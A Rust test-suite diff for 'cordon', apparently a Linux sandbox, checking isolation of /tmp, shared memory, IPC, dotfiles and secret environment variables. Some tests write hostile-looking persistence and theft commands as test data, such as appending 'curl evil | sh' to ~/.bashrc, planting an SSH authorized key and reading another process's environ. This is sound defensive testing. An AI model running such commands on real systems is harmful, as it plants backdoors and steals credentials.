+    let name = format!("/tmp/cordon-private-{}", c.unique());
+    let _guard = HostTmp(PathBuf::from(&name));
+    c.probe(WORKSPACE_WRITE, "write", &[&name, "run-one\n"])?.assert_ok("write /tmp inside");
+    let r = c.probe(WORKSPACE_WRITE, "read", &[&name])?;
+    assert!(!r.detail.contains("run-one"), "a second run saw the first run's /tmp: {r:?}");
+    assert_absent(Path::new(&name), "/tmp file written inside leaked to the host");
+});
+
+case!(leak_dev_shm_invisible, |c| {
+    for mode in CONFINED {
+        let tag = c.unique();
+        let secret = format!("shm-secret-{tag}");
+        let host = HostTmp(PathBuf::from(format!("/dev/shm/cordon-tests-{}-{tag}", std::process::id())));
+        c.file(&host.0, &secret);
+        let r = c.probe(mode, "read", &[s(&host.0)])?;
+        assert!(!r.detail.contains(&secret), "host /dev/shm visible inside: {r:?}");
+        let name = format!("/cordon-tests-{}-inner-{tag}", std::process::id());
+        let created = HostTmp(PathBuf::from(format!("/dev/shm{name}")));
+        let _ = c.probe(mode, "shm-open", &[&name])?;
+        assert_absent(&created.0, "shm_open inside created a host /dev/shm object");
+    }
+});
+
+fn ipc_key(c: &Ctx) -> i32 {
+    use std::hash::{Hash, Hasher};
+    let mut h = std::collections::hash_map::DefaultHasher::new();
+    c.unique().hash(&mut h);
+    (h.finish() as i32 & 0x3fff_ffff) | 0x4000_0000
+}
+
+case!(leak_sysv_ipc_isolated, |c| {
+    for mode in CONFINED {
+        for (op, kind) in [("shmget", 0), ("msgget", 1), ("semget", 2)] {
+            let key = ipc_key(c);
+            let _ = c.probe(mode, op, &[&key.to_string()])?;
+            // SAFETY: lookups (no IPC_CREAT) and removal of what we find.
+            let id = unsafe {
+                match kind {
+                    0 => libc::shmget(key, 0, 0),
+                    1 => libc::msgget(key, 0),
+                    _ => libc::semget(key, 0, 0),
+                }
+            };
+            if id >= 0 {
+                unsafe {
+                    match kind {
+                        0 => libc::shmctl(id, libc::IPC_RMID, std::ptr::null_mut()),
+                        1 => libc::msgctl(id, libc::IPC_RMID, std::ptr::null_mut()),
+                        _ => libc::semctl(id, 0, libc::IPC_RMID),
+                    };
+                }
+                panic!("{op} with key {key:#x} inside created a host-visible SysV object ({mode})");
+            }
+        }
+        // A host segment holding a secret must not be readable inside.
+        let key = ipc_key(c);
+        let secret = format!("sysv-secret-{}", c.unique());
+        // SAFETY: create, attach, write a short string, detach.
+        let id = unsafe { libc::shmget(key, 4096, libc::IPC_CREAT | 0o666) };
+        assert!(id >= 0, "host shmget failed");
+        unsafe {
+            let p = libc::shmat(id, std::ptr::null(), 0) as *mut u8;
+            std::ptr::copy_nonoverlapping(secret.as_ptr(), p, secret.len());
+            libc::shmdt(p as *const _);
+        }
+        let r = c.probe(mode, "shm-read", &[&key.to_string()]);
+        let ctl = c.host_probe("shm-read", &[&key.to_string()]);
+        unsafe { libc::shmctl(id, libc::IPC_RMID, std::ptr::null_mut()) };
+        let r = r?;
+        assert!(ctl.ok && ctl.detail.contains(&secret), "control: host shm readable: {ctl:?}");
+        assert!(!r.detail.contains(&secret), "host SysV shm readable inside ({mode}): {r:?}");
+        r.assert_refused("attach a host SysV shm segment");
+    }
+});
+
+case!(leak_posix_mq_isolated, |c| {
+    for mode in CONFINED {
+        let name = format!("/cordon-tests-{}", c.unique());
+        let _ = c.probe(mode, "mq-open", &[&name])?;
+        let cname = std::ffi::CString::new(name.clone()).unwrap();
+        // SAFETY: open-only lookup; unlink what we find.
+        let q = unsafe { libc::mq_open(cname.as_ptr(), libc::O_RDONLY) };
+        if q >= 0 {
+            unsafe {
+                libc::mq_close(q);
+                libc::mq_unlink(cname.as_ptr());
+            }
+            panic!("mq_open inside created a host-visible message queue {name} ({mode})");
+        }
+        // A host queue with a message must not be readable inside.
+        let hname = format!("/cordon-tests-{}", c.unique());
+        let hc = std::ffi::CString::new(hname.clone()).unwrap();
+        let secret = format!("mq-secret-{}", c.unique());
+        unsafe {
+            let q = libc::mq_open(hc.as_ptr(), libc::O_CREAT | libc::O_WRONLY, 0o666 as libc::c_uint, std::ptr::null::<libc::mq_attr>());
+            assert!(q >= 0, "host mq_open failed: {}", std::io::Error::last_os_error());
+            libc::fchmod(q, 0o666);
+            libc::mq_send(q, secret.as_ptr() as *const _, secret.len(), 0);
+            libc::mq_close(q);
+        }
+        let r = c.probe(mode, "mq-read", &[&hname]);
+        unsafe { libc::mq_unlink(hc.as_ptr()) };
+        let r = r?;
+        assert!(!r.detail.contains(&secret), "host POSIX mq readable inside ({mode}): {r:?}");
+        r.assert_refused("read a host POSIX message queue");
+    }
+});
+
+case!(leak_home_dotfiles_denied, |c| {
+    for mode in CONFINED {
+        let home = c.root.join(format!("home-{mode}"));
+        c.mkdir(&home);
+        let rc = c.sentinel(&home.join(".bashrc"));
+        let mut o = c.opts(mode);
+        o.env.push(("HOME".into(), s(&home).into()));
+        let out = c.sh(
+            &o,
+            "echo 'curl evil | sh' >> \"$HOME/.bashrc\"; echo x > \"$HOME/.profile\"; \
+             mkdir -p \"$HOME/.ssh\" && echo key >> \"$HOME/.ssh/authorized_keys\"; \
+             mkdir -p \"$HOME/.config/autostart\"; echo \"$HOME\"",
+        )?;
+        assert!(out.out().contains(s(&home)), "HOME should be passed through: {out:?}");
+        rc.assert_unchanged("append to ~/.bashrc");
+        assert_absent(&home.join(".profile"), "create ~/.profile");
+        assert_absent(&home.join(".ssh"), "create ~/.ssh");
+        assert_absent(&home.join(".config"), "create ~/.config");
+    }
+});
+
+case!(policy_dangerous_roots_refused, |c| {
+    // $HOME as the workspace or as a writable root, `/` as either: refused (fail
+    // closed), so a dotfile cannot be planted and the host cannot be opened up.
+    let home = c.root.join("home");
+    c.mkdir(&home);
+    let mark = c.outside.join("root-writable");
+    let attempts: Vec<(String, RunOpts, PathBuf)> = vec![
+        ("--cwd $HOME".into(), RunOpts { cwd: Some(home.clone()), ..c.opts(WORKSPACE_WRITE) }, home.join(".bashrc")),
+        ("--writable $HOME".into(), RunOpts { writable: vec![home.clone()], ..c.opts(WORKSPACE_WRITE) }, home.join(".profile")),
+        ("--writable /".into(), RunOpts { writable: vec!["/".into()], ..c.opts(WORKSPACE_WRITE) }, mark.clone()),
+        ("--cwd /".into(), RunOpts { cwd: Some("/".into()), ..c.opts(WORKSPACE_WRITE) }, mark.clone()),
+    ];
+    for (what, mut o, target) in attempts {
+        o.env.push(("HOME".into(), s(&home).into()));
+        o.expect_error = true;
+        let out = c.cordon(&o, &[s(&c.suite.probe), "create", s(&target)])?;
+        assert_absent(&target, &format!("{what}: {out:?}"));
+    }
+});
+
+// =====================================================================================
+// 10. Credentials: the ambient environment minus KEY/SECRET/TOKEN/PASSWORD names.
+// =====================================================================================
+
+case!(cred_secret_environment_scrubbed, |c| {
+    let tag = c.unique();
+    let secrets: Vec<(String, String)> = [
+        "GITHUB_TOKEN",
+        "MY_API_KEY",
+        "AWS_SECRET_ACCESS_KEY",
+        "DB_PASSWORD",
+        "NPM_TOKEN",
+        "OPENAI_API_KEY",
+        "client_secret",
+    ]
+    .iter()
+    .map(|k| (k.to_string(), format!("s3cr3t-{k}-{tag}")))
+    .collect();
+    for mode in CONFINED {
+        let mut o = c.opts(mode);
+        o.env = secrets.clone();
+        // (CORDON_* names are reserved by cordon and stripped; use an ordinary name.)
+        o.env.push(("ORDINARY_SETTING".into(), format!("visible-{tag}")));
+        let r = c.probe_with(&o, "environ", &[])?;
+        r.assert_ok("environ");
+        for (k, v) in &secrets {
+            assert!(!r.detail.contains(v.as_str()), "{k} leaked into the sandbox ({mode})");
+        }
+        assert!(r.detail.contains(&format!("visible-{tag}")), "ordinary variables must pass through: {r:?}");
+        // Nor readable from any process's environ (e.g. cordon's own, via /proc).
+        let g = c.probe_with(&o, "proc-grep", &[&secrets[0].1])?;
+        assert!(g.detail.contains("matches=[]"), "a secret is readable in /proc/*/environ inside: {g:?}");
+    }
+});
+
+// =====================================================================================
+// 10b. Degraded hosts: an undeclared gap is the worst bug. On a host that cannot enforce
+//      everything (older Landlock ABI, no user namespaces), cordon must fail closed
+//      unless --best-effort, and with --best-effort every protection that does not hold
+//      must be named in `enforcement.gaps` (by its restriction name).
+// =====================================================================================
+
+/// The degraded hosts cordon can emulate: (label, environment for the cordon process).
+fn degraded_hosts() -> Vec<(String, Vec<(String, String)>)> {
+    let mut v: Vec<(String, Vec<(String, String)>)> = (1..=6)
+        .map(|n| (format!("landlock-abi-{n}"), vec![("CORDON_LANDLOCK_ABI_MAX".to_string(), n.to_string())]))
+        .collect();
+    v.push(("no-userns".into(), vec![("CORDON_DISABLE_USERNS".into(), "1".into())]));
+    v.push((
+        "no-userns+abi-3".into(),
+        vec![("CORDON_DISABLE_USERNS".into(), "1".into()), ("CORDON_LANDLOCK_ABI_MAX".into(), "3".into())],
+    ));
+    v
+}
+
+fn gap_names(out: &CordonOut) -> Vec<String> {
+    out.j()["sandbox"]["enforcement"]["gaps"]
+        .as_array()
+        .map(|a| a.iter().filter_map(|g| g["restriction"].as_str().map(String::from)).collect())
+        .unwrap_or_default()
+}
+
+/// Runs one protection check per restriction under `o`. Returns None if cordon did not
+/// run the command at all, else the declared gaps and the (restriction, evidence) of
+/// every protection that did not hold.
+#[allow(clippy::type_complexity)]
+fn degraded_battery(c: &Ctx, o: &RunOpts, tag: &str) -> Result<Option<(Vec<String>, Vec<(&'static str, String)>)>, Skip> {
+    let ws = o.cwd.clone().unwrap();
+    let out_dir = c.outside.join(tag);
+    c.mkdir(&out_dir);
+    let mut bad: Vec<(&'static str, String)> = vec![];
+    let mut gaps: Option<Vec<String>> = None;
+    macro_rules! run {
+        ($opts:expr, $op:expr, $args:expr) => {{
+            match c.probe_or_refusal($opts, $op, $args)? {
+                Ok(r) => {
+                    let g = gap_names(r.run.as_ref().unwrap());
+                    if let Some(prev) = &gaps {
+                        assert_eq!(prev, &g, "gaps differ between runs of the same policy ({tag})");
+                    }
+                    gaps = Some(g);
+                    r
+                }
+                Err(out) => {
+                    if gaps.is_none() {
+                        return Ok(None);
+                    }
+                    panic!("cordon ran one command of this policy but refused another ({tag}): {out:?}");
+                }
+            }
+        }};
+    }
+    // fs-write
+    let sent = c.sentinel(&out_dir.join("fs-write"));
+    let r = run!(o, "overwrite", &[s(&sent.path), "pwned"]);
+    if sent.check().is_err() {
+        bad.push(("fs-write", format!("{r:?}")));
+    }
+    // fs-truncate
+    let sent = c.sentinel(&out_dir.join("fs-truncate"));
+    let r = run!(o, "truncate", &[s(&sent.path), "0"]);
+    if sent.check().is_err() {
+        bad.push(("fs-truncate", format!("{r:?}")));
+    }
+    // fs-metadata
+    let sent = c.sentinel(&out_dir.join("fs-metadata"));
+    let r = run!(o, "chmod", &[s(&sent.path), "0600"]);
+    if sent.check().is_err() {
+        bad.push(("fs-metadata", format!("{r:?}")));
+    }
+    // protected-paths
+    let cfg = Sentinel::record(&ws.join(".git/config"));
+    let r = run!(o, "append", &[s(&cfg.path), "pwned"]);
+    if cfg.check().is_err() {
+        bad.push(("protected-paths", format!("{r:?}")));
+    }
+    // private-tmp (host /tmp neither readable nor writable)
+    let secret = format!("degraded-tmp-{}", c.unique());
+    let host_tmp = PathBuf::from(format!("/tmp/cordon-tests-{}-{secret}", std::process::id()));
+    c.file(&host_tmp, &secret);
+    let r = run!(o, "read", &[s(&host_tmp)]);
+    let _ = fs::remove_file(&host_tmp);
+    if r.detail.contains(&secret) {
+        bad.push(("private-tmp", format!("read host /tmp: {r:?}")));
+    }
+    let created = PathBuf::from(format!("/tmp/cordon-tests-{}-created-{}", std::process::id(), c.unique()));
+    let r = run!(o, "create", &[s(&created)]);
+    if created.exists() {
+        let _ = fs::remove_file(&created);
+        bad.push(("private-tmp", format!("created in host /tmp: {r:?}")));
+    }
+    // network
+    let t = TcpTrap::v4();
+    let r = run!(o, "tcp", &["127.0.0.1", &t.port_s()]);
+    if t.connected_within(200) {
+        bad.push(("network", format!("{r:?}")));
+    }
+    let u = UdpTrap::v4();
+    let r = run!(o, "udp", &["127.0.0.1", &u.port_s()]);
+    if u.received() {
+        bad.push(("network", format!("udp: {r:?}")));
+    }
+    // unix-sockets
+    let name = format!("cordon-test-{}", c.unique());
+    let trap = UnixTrap::stream_abstract(&name);
+    let r = run!(o, "unix-abstract", &[&name]);
+    if trap.touched_within(200) {
+        bad.push(("unix-sockets", format!("{r:?}")));
+    }
+    // signals / process-inspection
+    let mut v = c.victim();
+    let r = run!(o, "kill", &[&v.pid_s(), "9"]);
+    if v.check().is_err() {
+        bad.push(("signals", format!("{r:?}")));
+    }
+    let v = c.victim();
+    let r = run!(o, "read", &[&format!("/proc/{}/environ", v.pid)]);
+    if r.detail.contains(&v.secret) {
+        bad.push(("process-inspection", format!("{r:?}")));
+    }
+    let r = run!(o, "vm-read", &[&v.pid_s(), &v.some_address()]);
+    if r.ok {
+        bad.push(("process-inspection", format!("process_vm_readv: {r:?}")));
+    }
+    // process-lifetime
+    let mark = ws.join(format!("survivor-{}", c.unique()));
+    let r = run!(o, "daemonize", &["3000", s(&mark)]);
+    let left = host_pids_with(s(&mark));
+    if !left.is_empty() {
+        for pid in &left {
+            let _ = std::process::Command::new("kill").args(["-9", pid]).status();
+        }
+        bad.push(("process-lifetime", format!("survivors {left:?}: {r:?}")));
+    }
+    // ipc
+    let key = ipc_key(c);
+    let r = run!(o, "shmget", &[&key.to_string()]);
+    // SAFETY: lookup without IPC_CREAT, removal of what we find.
+    let id = unsafe { libc::shmget(key, 0, 0) };
+    if id >= 0 {
+        unsafe { libc::shmctl(id, libc::IPC_RMID, std::ptr::null_mut()) };
+        bad.push(("ipc", format!("{r:?}")));
+    }
+    // device-ioctl (root can open /dev/userfaultfd read-only)
+    if Path::new("/dev/userfaultfd").exists() {
+        let r = run!(o, "userfaultfd-dev", &[]);
+        if r.ok {
+            bad.push(("device-ioctl", format!("userfaultfd through /dev/userfaultfd: {r:?}")));
+        }
+    }
+    // terminal-injection, syscall-filter, privileges, fd-isolation
+    let r = run!(o, "tiocsti-hi", &["/dev/null"]);
+    if r.errname == "ENOTTY" {
+        bad.push(("terminal-injection", format!("{r:?}")));
+    }
+    for op in ["io_uring", "bpf", "unshare", "i386-getpid"] {
+        let args: &[&str] = if op == "unshare" { &["user"] } else { &[] };
+        let r = run!(o, op, args);
+        if r.ok {
+            bad.push(("syscall-filter", format!("{r:?}")));
+        }
+    }
+    let r = run!(o, "caps", &[]);
+    let f = status_fields(&r.detail);
+    if f.get("CapEff").map(String::as_str) != Some("0000000000000000") || f.get("NoNewPrivs").map(String::as_str) != Some("1") {
+        bad.push(("privileges", format!("{r:?}")));
+    }
+    let sink = c.file(&out_dir.join("fd-sink"), "");
+    let fdf = open_append(&sink);
+    let mut of = o.clone();
+    of.inherit_fds = vec![(raw(&fdf), 7)];
+    let r = run!(&of, "fds", &[]);
+    if !r.detail.is_empty() {
+        bad.push(("fd-isolation", format!("{r:?}")));
+    }
+    Ok(Some((gaps.unwrap_or_default(), bad)))
+}
+
+case!(gap_degraded_hosts_fail_closed_or_declare_every_gap, |c| {
+    let ws = git_ws(c, "repo");
+    for (label, env) in degraded_hosts() {
+        // Without --best-effort: refuse, or run with nothing missing.
+        let mut strict = opts_at(c, WORKSPACE_WRITE, &ws);
+        strict.env = env.clone();
+        match c.probe_or_refusal(&strict, "true", &[])? {
+            Ok(r) => {
+                let out = r.run.as_ref().unwrap();
+                let gaps = gap_names(out);
+                assert!(gaps.is_empty(), "{label}: ran without --best-effort despite gaps {gaps:?}: {out:?}");
+                assert_eq!(out.j()["sandbox"]["enforcement"]["level"], "full", "{label}: {out:?}");
+            }
+            Err(out) => {
+                assert_eq!(out.status.code(), Some(125), "{label}: refusal must exit 125: {out:?}");
+            }
+        }
+        // With --best-effort: whatever does not hold must be declared.
+        let mut be = strict.clone();
+        be.extra_args = vec!["--best-effort".into()];
+        match degraded_battery(c, &be, &label)? {
+            None => loud(&format!(
+                "NOTE gap_degraded_hosts [{}]: {label}: cordon did not run the command even with --best-effort",
+                c.id.name
+            )),
+            Some((gaps, bad)) => {
+                let undeclared: Vec<_> = bad.iter().filter(|(r, _)| !gaps.iter().any(|g| g == r)).collect();
+                assert!(
+                    undeclared.is_empty(),
+                    "{label}: protections failed without a declared gap (declared: {gaps:?}):\n{undeclared:#?}"
+                );
+            }
+        }
+    }
+});
+
+case!(gap_best_effort_still_runs_and_keeps_workspace_usable, |c| {
+    // --best-effort exists so that a degraded host can still run commands: the run must
+    // happen, and ordinary workspace work (renames and links across directories) must
+    // keep working at every Landlock ABI.
+    let mut failures = vec![];
+    for (label, env) in degraded_hosts() {
+        let ws = c.ws.join(format!("be-{label}"));
+        c.mkdir(&ws.join("a"));
+        c.mkdir(&ws.join("b"));
+        c.file(&ws.join("a/f"), "x\n");
+        let mut o = opts_at(c, WORKSPACE_WRITE, &ws);
+        o.env = env;
+        o.extra_args = vec!["--best-effort".into()];
+        match c.probe_or_refusal(&o, "rename", &[s(&ws.join("a/f")), s(&ws.join("b/f"))])? {
+            Err(out) => failures.push(format!("{label}: did not run with --best-effort: {}", out.stdout.trim())),
+            Ok(r) if !r.ok => failures.push(format!("{label}: rename a/f -> b/f inside the workspace: {r:?}")),
+            Ok(_) => {
+                let r = c.probe_with(&o, "link", &[s(&ws.join("b/f")), s(&ws.join("a/hl"))])?;
+                if !r.ok {
+                    failures.push(format!("{label}: link b/f -> a/hl inside the workspace: {} {}", r.errname, r.detail));
+                }
+            }
+        }
+    }
+    assert!(failures.is_empty(), "best-effort runs broken:\n{}", failures.join("\n"));
+});
+
+// =====================================================================================
+// 11. Positive controls: the sandbox must not block ordinary work.
+// =====================================================================================
+
+case!(ctl_compile_and_run_c_in_workspace, |c| {
+    c.file(&c.ws.join("hello.c"), "#include <stdio.h>\nint main(void){puts(\"hello from cordon\");return 0;}\n");
+    let out = c.sh(&c.opts(WORKSPACE_WRITE), "cc -O2 -Wall -o hello hello.c && ./hello")?;
+    out.assert_success();
+    assert!(out.out().contains("hello from cordon"), "{out:?}");
+    assert!(c.ws.join("hello").is_file(), "the compiled binary should be in the workspace");
+});
+
+case!(ctl_git_read_commands_work, |c| {
+    let ws = git_ws(c, "repo");
+    c.file(&ws.join("new-file"), "x\n");
+    for mode in CONFINED {
+        let out = c.sh(
+            &opts_at(c, mode, &ws),
+            "git status --porcelain && git log --oneline && git diff --stat HEAD && git rev-parse HEAD && git show --stat HEAD >/dev/null",
+        )?;
+        out.assert_success();
+        assert!(out.out().contains("initial commit"), "git log inside ({mode}): {out:?}");
+        assert!(out.out().contains("?? new-file"), "git status inside ({mode}): {out:?}");
+    }
+});
+
+case!(ctl_workspace_file_operations_work, |c| {
+    let w = |p: &str| c.ws.join(p);
+    let o = c.opts(WORKSPACE_WRITE);
+    let steps: Vec<(&str, Vec<PathBuf>, Vec<&str>)> = vec![
+        ("write", vec![w("a")], vec!["first\n"]),
+        ("append", vec![w("a")], vec!["second\n"]),
+        ("create", vec![w("b")], vec![]),
+        ("rename", vec![w("b"), w("b2")], vec![]),
+        ("exchange", vec![w("a"), w("b2")], vec![]),
+        ("link", vec![w("b2"), w("hard")], vec![]),
+        ("symlink", vec![PathBuf::from("hard"), w("soft")], vec![]),
+        ("symlink-write", vec![w("a"), w("soft2")], vec!["via symlink\n"]),
+        ("truncate", vec![w("hard"), PathBuf::from("5")], vec![]),
+        ("ftruncate", vec![w("a"), PathBuf::from("3")], vec![]),
+        ("write", vec![w("c")], vec!["ccc\n"]),
+        ("open-trunc", vec![w("c")], vec![]),
+        ("mkdir", vec![w("d")], vec![]),
+        ("mkdir", vec![w("e")], vec![]),
+        ("rmdir", vec![w("e")], vec![]),
+        ("rename", vec![w("d"), w("d2")], vec![]),
+        ("mkfifo", vec![w("fifo")], vec![]),
+        ("tmpfile-link", vec![c.ws.clone(), w("from-tmpfile")], vec![]),
+        ("unlink", vec![w("fifo")], vec![]),
+    ];
+    for (op, paths, extra) in steps {
+        let mut args: Vec<&str> = paths.iter().map(|p| s(p)).collect();
+        args.extend(extra);
+        c.probe_with(&o, op, &args)?.assert_ok(&format!("{op} inside the workspace"));
+    }
+    // a: "first\nsecond\n" -> exchanged with b2 (probe default data) -> + "via symlink\n"
+    // -> ftruncate 3. b2 (== hard): "first\nsecond\n" -> truncate 5.
+    assert_eq!(fs::read_to_string(w("hard")).unwrap(), "first", "rename/exchange/link/truncate effects");
+    assert_eq!(fs::read_to_string(w("b2")).unwrap(), "first", "hardlink shares the inode");
+    assert_eq!(fs::read_to_string(w("a")).unwrap(), "cor", "exchange + symlink-write + ftruncate effects");
+    assert_eq!(fs::read_link(w("soft")).unwrap(), PathBuf::from("hard"));
+    assert_eq!(fs::metadata(w("c")).unwrap().len(), 0);
+    assert!(w("d2").is_dir() && !w("e").exists() && !w("fifo").exists());
+    assert!(w("from-tmpfile").is_file());
+});
+
+case!(ctl_workspace_metadata_operations_work, |c| {
+    let f = c.file(&c.ws.join("script.sh"), "#!/bin/sh\necho ran-script\n");
+    let o = c.opts(WORKSPACE_WRITE);
+    c.probe_with(&o, "chmod", &[s(&f), "0755"])?.assert_ok("chmod +x in the workspace");
+    c.probe_with(&o, "utimes", &[s(&f)])?.assert_ok("utimes in the workspace");
+    let m = fs::metadata(&f).unwrap();
+    assert_eq!(m.mode() & 0o777, 0o755);
+    assert_eq!(m.mtime(), 1_000_000_000);
+    let out = c.sh(&o, "./script.sh && touch -c script.sh")?;
+    out.assert_success();
+    assert!(out.out().contains("ran-script"));
+});
+
+case!(ctl_private_tmpdir_is_writable, |c| {
+    for mode in CONFINED {
+        let r = c.probe(mode, "tmpdir", &[])?;
+        r.assert_ok("mkstemp in $TMPDIR");
+        assert!(r.detail.contains("TMPDIR=/tmp;"), "TMPDIR should be /tmp: {r:?}");
+        let out = c.sh(&c.opts(mode), "f=$(mktemp) && echo tmp-ok > \"$f\" && cat \"$f\" && rm \"$f\" && mkdir /tmp/d && echo shm > /dev/shm/x && cat /dev/shm/x")?;
+        out.assert_success();
+        assert!(out.out().contains("tmp-ok") && out.out().contains("shm"), "{out:?}");
+    }
+});
+
+case!(ctl_pipes_and_job_control_work, |c| {
+    for mode in CONFINED {
+        let out = c.sh(
+            &c.opts(mode),
+            "echo abc | tr a-z A-Z; (sleep 0.1; echo from-bg) & wait; set -m 2>/dev/null; sleep 0.05 & wait %1 2>/dev/null; echo done",
+        )?;
+        out.assert_success();
+        assert_eq!(out.out(), "ABC\nfrom-bg\ndone\n", "{out:?}");
+    }
+    c.probe(WORKSPACE_WRITE, "socketpair", &[])?.assert_ok("socketpair must work");
+});
+
+case!(ctl_read_system_and_dev_null, |c| {
+    for mode in CONFINED {
+        let r = c.probe(mode, "read", &["/etc/passwd"])?;
+        r.assert_ok("read /etc/passwd");
+        assert!(r.detail.contains("root:"), "{r:?}");
+        let out = c.sh(&c.opts(mode), "echo x > /dev/null && cat /dev/null && ls /usr/bin >/dev/null && head -c 4 /dev/urandom | wc -c && uname -s")?;
+        out.assert_success();
+        assert!(out.out().contains("4") && out.out().contains("Linux"), "{out:?}");
+    }
+});
+
+case!(ctl_workspace_reached_through_symlink, |c| {
+    let link = c.root.join("ws-link");
+    c.symlink(&c.ws, &link);
+    let mut o = c.opts(WORKSPACE_WRITE);
+    o.cwd = Some(link.clone());
+    c.probe_with(&o, "write", &[s(&link.join("via-link"))])?.assert_ok("write via the symlinked workspace path");
+    c.probe_with(&o, "write", &["relative"])?.assert_ok("write relative to the symlinked workspace");
+    assert!(c.ws.join("via-link").is_file() && c.ws.join("relative").is_file());
+    let sent = c.sentinel(&c.outside.join("target"));
+    c.probe_with(&o, "overwrite", &[s(&sent.path)])?.assert_refused("outside stays read-only");
+    sent.assert_unchanged("outside via symlinked workspace");
+});
+
+case!(ctl_writable_root_works, |c| {
+    let extra = c.root.join("extra");
+    c.mkdir(&extra);
+    let mut o = c.opts(WORKSPACE_WRITE);
+    o.writable.push(extra.clone());
+    let p = extra.join("written");
+    c.probe_with(&o, "write", &[s(&p)])?.assert_ok("write into a --writable root");
+    assert!(p.is_file(), "the write into the writable root should be visible on the host");
+    let sent = c.sentinel(&c.outside.join("target"));
+    c.probe_with(&o, "overwrite", &[s(&sent.path)])?.assert_refused("a sibling of the writable root");
+    sent.assert_unchanged("sibling of the writable root");
+    // read-only never widens: a --writable root is dropped, not honoured.
+    let mut o = c.opts(READ_ONLY);
+    o.writable.push(extra.clone());
+    let p = extra.join("written-read-only");
+    c.probe_with(&o, "write", &[s(&p)])?.assert_refused_with(FS_DENIED, "read-only with --writable");
+    assert_absent(&p, "read-only with --writable");
+});
+
+/// A directory tree under the host /tmp, removed when dropped.
+struct TmpTree(PathBuf);
+impl Drop for TmpTree {
+    fn drop(&mut self) {
+        let _ = fs::remove_dir_all(&self.0);
+    }
+}
+
+case!(ctl_workspace_and_writable_root_under_tmp, |c| {
+    let t = TmpTree(PathBuf::from(format!("/tmp/cordon-tests-{}-{}", std::process::id(), c.unique())));
+    let ws = t.0.join("ws");
+    let extra = t.0.join("extra");
+    c.mkdir(&t.0);
+    c.mkdir(&ws);
+    c.mkdir(&extra);
+    let mut o = opts_at(c, WORKSPACE_WRITE, &ws);
+    o.writable.push(extra.clone());
+    c.probe_with(&o, "write", &[s(&ws.join("in-ws")), "ws\n"])?.assert_ok("write a /tmp workspace");
+    c.probe_with(&o, "write", &[s(&extra.join("in-extra")), "extra\n"])?.assert_ok("write a /tmp writable root");
+    assert_eq!(fs::read_to_string(ws.join("in-ws")).unwrap(), "ws\n");
+    assert_eq!(fs::read_to_string(extra.join("in-extra")).unwrap(), "extra\n");
+    let r = c.probe_with(&o, "read", &[s(&ws.join("in-ws"))])?;
+    r.assert_ok("read back");
+    // Only the roots are re-exposed: their host /tmp siblings stay invisible/unwritable.
+    let secret = format!("sibling-secret-{}", c.unique());
+    let sib = c.file(&t.0.join("sibling"), &secret);
+    let r = c.probe_with(&o, "read", &[s(&sib)])?;
+    assert!(!r.detail.contains(&secret), "a host /tmp sibling of the workspace is visible: {r:?}");
+    let newf = t.0.join("planted");
+    let _ = c.probe_with(&o, "create", &[s(&newf)])?;
+    assert_absent(&newf, "create next to a /tmp workspace");
+});
+
+case!(ctl_full_access_is_unconfined, |c| {
+    let p = c.outside.join("full-access");
+    c.probe(FULL_ACCESS, "write", &[s(&p)])?.assert_ok("full-access writes outside the workspace");
+    assert!(p.is_file());
+    let t = TcpTrap::v4();
+    c.probe(FULL_ACCESS, "tcp", &["127.0.0.1", &t.port_s()])?.assert_ok("full-access has network");
+    assert!(t.connected_within(500));
+});
+
+case!(ctl_network_flag_allows_loopback, |c| {
+    let mut o = c.opts(WORKSPACE_WRITE);
+    o.network = true;
+    let t = TcpTrap::v4();
+    c.probe_with(&o, "tcp", &["127.0.0.1", &t.port_s()])?.assert_ok("--network: TCP connect");
+    assert!(t.connected_within(500), "--network: the listener saw no connection");
+    let u = UdpTrap::v4();
+    c.probe_with(&o, "udp", &["127.0.0.1", &u.port_s()])?.assert_ok("--network: UDP send");
+    assert!(u.received(), "--network: no datagram arrived");
+    // --network widens the network only: files outside stay read-only.
+    let sent = c.sentinel(&c.outside.join("target"));
+    c.probe_with(&o, "overwrite", &[s(&sent.path)])?.assert_refused("--network must not widen files");
+    sent.assert_unchanged("--network");
+});
+
+case!(ctl_default_cwd_is_the_workspace, |c| {
+    let mut o = c.opts("");
+    o.cwd = None;
+    o.process_cwd = Some(c.ws.clone());
+    c.probe_with(&o, "write", &["default-cwd-file"])?.assert_ok("default workspace is the current directory");
+    assert!(c.ws.join("default-cwd-file").is_file());
+    let sent = c.sentinel(&c.outside.join("target"));
+    let r = c.probe_with(&o, "overwrite", &[s(&sent.path)])?;
+    let out = r.run.as_ref().unwrap();
+    assert_eq!(out.j()["sandbox"]["mode"].as_str(), Some(WORKSPACE_WRITE), "default mode: {out:?}");
+    r.assert_refused("default mode confines");
+    sent.assert_unchanged("default mode");
+});
